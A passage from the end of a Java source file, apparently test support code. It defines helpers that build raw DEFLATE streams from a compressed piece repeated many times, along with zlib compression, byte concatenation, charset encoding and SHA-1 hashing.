    }

    /**
     * Raw DEFLATE of head + unit×times + tail. Each piece is compressed by its own Deflater and ends in a full flush
     * (byte aligned, no back references across pieces), so the repeated piece is compressed once and its output
     * repeated.
     */
    private static byte[] deflateRepeated(byte[] head, byte[] unit, long times, byte[] tail) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        if (head.length > 0) {
            out.writeBytes(deflatePiece(head, false));
        }
        if (times > 0) {
            byte[] deflatedUnit = deflatePiece(unit, false);
            for (long i = 0; i < times; i++) {
                out.writeBytes(deflatedUnit);
            }
        }
        out.writeBytes(deflatePiece(tail, true));
        return out.toByteArray();
    }

    private static byte[] deflatePiece(byte[] data, boolean last) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        try {
            deflater.setInput(data);
            if (last) {
                deflater.finish();
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            byte[] buffer = new byte[64 * 1024];
            while (true) {
                int n = deflater.deflate(buffer, 0, buffer.length, last ? Deflater.NO_FLUSH : Deflater.FULL_FLUSH);
                out.write(buffer, 0, n);
                if (last ? deflater.finished() : n < buffer.length) {
                    return out.toByteArray();
                }
            }
        } finally {
            deflater.end();
        }
    }

    private static byte[] zlib(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflater = new DeflaterOutputStream(out)) {
            deflater.write(data);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    // ---------------------------------------------------------------------------------------------------------------
    // Bytes

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static int u16(byte[] bytes, int at) {
        return (bytes[at] & 0xFF) << 8 | bytes[at + 1] & 0xFF;
    }

    private static byte[] ascii(String text) {
        return text.getBytes(US_ASCII);
    }

    private static byte[] latin1(String text) {
        return text.getBytes(ISO_8859_1);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(UTF_8);
    }

    private static byte[] sha1(byte[] data) {
        try {
            return MessageDigest.getInstance("SHA-1").digest(data);
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
